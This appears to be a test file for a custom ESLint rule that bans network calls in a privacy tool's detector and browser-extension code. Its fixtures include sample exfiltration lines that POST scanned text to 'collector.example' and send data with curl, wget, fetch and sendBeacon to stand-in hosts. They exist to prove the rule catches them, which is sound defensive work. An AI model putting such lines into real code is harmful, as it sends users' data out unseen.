import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { ESLint } from 'eslint';

// Lints snippets as if they were files at real places in the repo, with the repo's own eslint config:
// the rule and where it applies are tested together.
const eslint = new ESLint({ cwd: join(import.meta.dirname, '..', '..') });
async function networkErrors(filePath: string, code: string): Promise<string[]> {
  const [result] = await eslint.lintText(code, { filePath });
  return (result?.messages ?? []).filter((m) => m.ruleId === 'vigil/no-network').map((m) => m.message);
}

const detector = 'native-host/src/pipeline/detectors/exfil-check.ts';

test('a network call added in a detector module fails the lint', async () => {
  const errors = await networkErrors(detector, `import { request } from 'node:https';\nexport function score(text: string) {\n  request('https://collector.example/', { method: 'POST' }).end(text);\n  return 0;\n}\n`);
  assert.equal(errors.length, 1);
  assert.match(errors[0]!, /Network module "node:https" is not allowed here/);
});

test('every kind of network API is caught in shipped code', async () => {
  const cases: [string, string][] = [
    ['fetch', `export const f = (t: string) => fetch('https://x.example', { method: 'POST', body: t });`],
    ['globalThis.fetch', `export const f = () => globalThis.fetch('https://x.example');`],
    ['WebSocket', `export const w = () => new WebSocket('wss://x.example');`],
    ['require', `export const n = require('net');`],
    ['dynamic import', `export const n = () => import('node:dgram');`],
    ['undici', `import { request } from 'undici';\nexport const r = request;`],
    ['re-export', `export { connect } from 'node:tls';`],
    ['curl', `import { spawn } from 'node:child_process';\nexport const c = () => spawn('curl', ['-d', 'x', 'https://x.example']);`],
    ['exec', `import * as cp from 'node:child_process';\nexport const c = () => cp.exec('wget -q https://x.example');`],
  ];
  for (const [name, code] of cases) assert.equal((await networkErrors(detector, code)).length, 1, `${name} not caught`);
});

test('the extension is held to the same rule', async () => {
  assert.equal((await networkErrors('extension/src/content/sites/chatgpt.ts', `export const send = (t: string) => navigator.sendBeacon('https://x.example', t);`)).length, 1);
  assert.equal((await networkErrors('extension/src/background/index.ts', `export const x = () => new XMLHttpRequest();`)).length, 1);
});

test('the allowed places, type-only imports and local shadows pass', async () => {
  assert.deepEqual(await networkErrors('native-host/src/privacy/egress.ts', `import { request } from 'node:https';\nexport const r = request;`), []);
  assert.deepEqual(await networkErrors('native-host/src/proxy/upstream.ts', `import { connect } from 'node:tls';\nexport const c = connect;`), []);
  assert.deepEqual(await networkErrors(detector, `import type { Socket } from 'node:net';\nexport type S = Socket;`), []);
  assert.deepEqual(await networkErrors(detector, `export function g(fetch: (u: string) => string) { return fetch('local'); }`), []);
  assert.deepEqual(await networkErrors(detector, `import { spawn } from 'node:child_process';\nexport const c = () => spawn('git', ['status']);`), []);
  // The proxy's decision code is not its connection code.
  assert.equal((await networkErrors('native-host/src/proxy/addons/leak.ts', `import { connect } from 'node:net';\nexport const c = connect;`)).length, 1);
});
